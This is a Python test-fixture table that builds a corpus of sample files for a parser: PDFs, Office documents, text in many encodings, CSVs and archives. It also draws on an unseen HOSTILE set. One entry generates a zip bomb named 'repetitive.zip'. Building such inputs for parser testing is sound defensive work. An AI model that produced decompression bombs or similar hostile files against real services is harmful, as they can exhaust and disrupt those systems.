    # PDFs.
    "report-pypdf.pdf": lambda: pdf_by_pypdf(3, metadata=True, outline=True),
    "with-link.pdf": lambda: pdf_by_pypdf(2, link=True),
    "restricted.pdf": lambda: pdf_by_pypdf(2, owner_only=True),
    "invoice.pdf": lambda: pdf_of(CATALOG),
    "scan.pdf": pdf_of_images,
    "hand-made.pdf": lambda: PDF,
    "mail-saved.pdf": lambda: pdf_of(CATALOG, prefix=b"\r\n\r\n"),
    # Office files.
    "report.docx": lambda: zip_of(docx()),
    "with-image.docx": lambda: zip_of(docx(image=True)),
    "export.xlsx": lambda: zip_of(xlsx()),
    "letter.doc": lambda: WORD_97,
    "old.xls": lambda: EXCEL_97,
    "big-letter.doc": lambda: ole2({"WordDocument": b"\xec\xa5" + bytes(300_000), "1Table": bytes(9000), "\x05SummaryInformation": bytes(4096), "ObjectPool/_1234/\x01Ole10Native": b"embedded"}),
    # Text and CSV, as Windows, PowerShell, Excel and terminals write them.
    "utf8.txt": lambda: "Grüße aus Köln: the server said 502 — again.\n".encode(),
    "utf8-bom.txt": lambda: "\ufeffNotepad saved this as UTF-8 with BOM.\r\n".encode(),
    "powershell.txt": lambda: "PS C:\\> Get-Service\r\nRunning  Spooler\r\n".encode("utf-16"),
    "utf16-be.txt": lambda: "\ufeffBig-endian Unicode from an old Mac tool\n".encode("utf-16-be"),
    "utf32.txt": lambda: "UTF-32 with its mark: ✓\n".encode("utf-32"),
    "ansi.txt": lambda: "Fehler: Datei “Übersicht.xlsx” fehlt – 5 €\r\n".encode("cp1252"),
    "colours.txt": lambda: b"\x1b[31mERROR\x1b[0m upstream timed out\n\x1b[32mOK\x1b[0m retried\n",
    "pages.txt": lambda: b"Page 1\r\n\x0cPage 2\r\n\tindented\r\n",
    "config.txt": lambda: b'<?xml version="1.0"?>\n<config><timeout>30</timeout></config>\n',
    "export.csv": lambda: b"id,status,subject\n1,open,Printer\n2,solved,VPN\n",
    "excel-utf8.csv": lambda: "\ufeffKunde;Betrag\nMüller;12,50 €\n".encode(),
    "excel-ansi.csv": lambda: "Kunde;Betrag\r\nMüller;12,50 €\r\n".encode("cp1252"),
    "excel-unicode.csv": lambda: "Kunde\tBetrag\r\nMüller\t12,50\r\n".encode("utf-16"),
    "dos-export.csv": lambda: b"id;name\r\n1;Printer\r\n\x1a",
    # Archives.
    "logs.zip": lambda: zip_of({"app.log": LOG.encode(), "worker.log": LOG.encode()[::-1], "nginx/error.log": LOG.encode()}),
    "stored.zip": lambda: zip_raw([stored("readme.txt", b"see logs\n"), stored("logs/", b"", mode=0o40755)]),
    "nested.zip": lambda: zip_of({"inner.zip": zip_of({"a.log": LOG.encode()}), "b.log": b"ok\n"}),
    "repetitive.zip": lambda: zip_bomb(12, "big.log"),
    "zip64-marked.zip": lambda: zip_marked_zip64(zip_of({"app.log": LOG.encode()})),
    "folder.tar": _tar_with_folder,
    "logs.tar": lambda: tar_of((member("app.log"), LOG.encode()), (member("dmesg.txt"), b"kernel: oops\n")),
    "logs.rar": lambda: rar_of(rar_file("logs", directory=True, mode=0o40755), rar_file("logs/app.log", LOG.encode())),
    "minimal.rar": lambda: RAR,
}
# fmt: on


@cache
def built(name: str) -> bytes:
    """The bytes of a corpus file, made once a session."""
    for hostile in HOSTILE:
        if hostile.name == name:
            return hostile.build()
    return LEGITIMATE[name]()
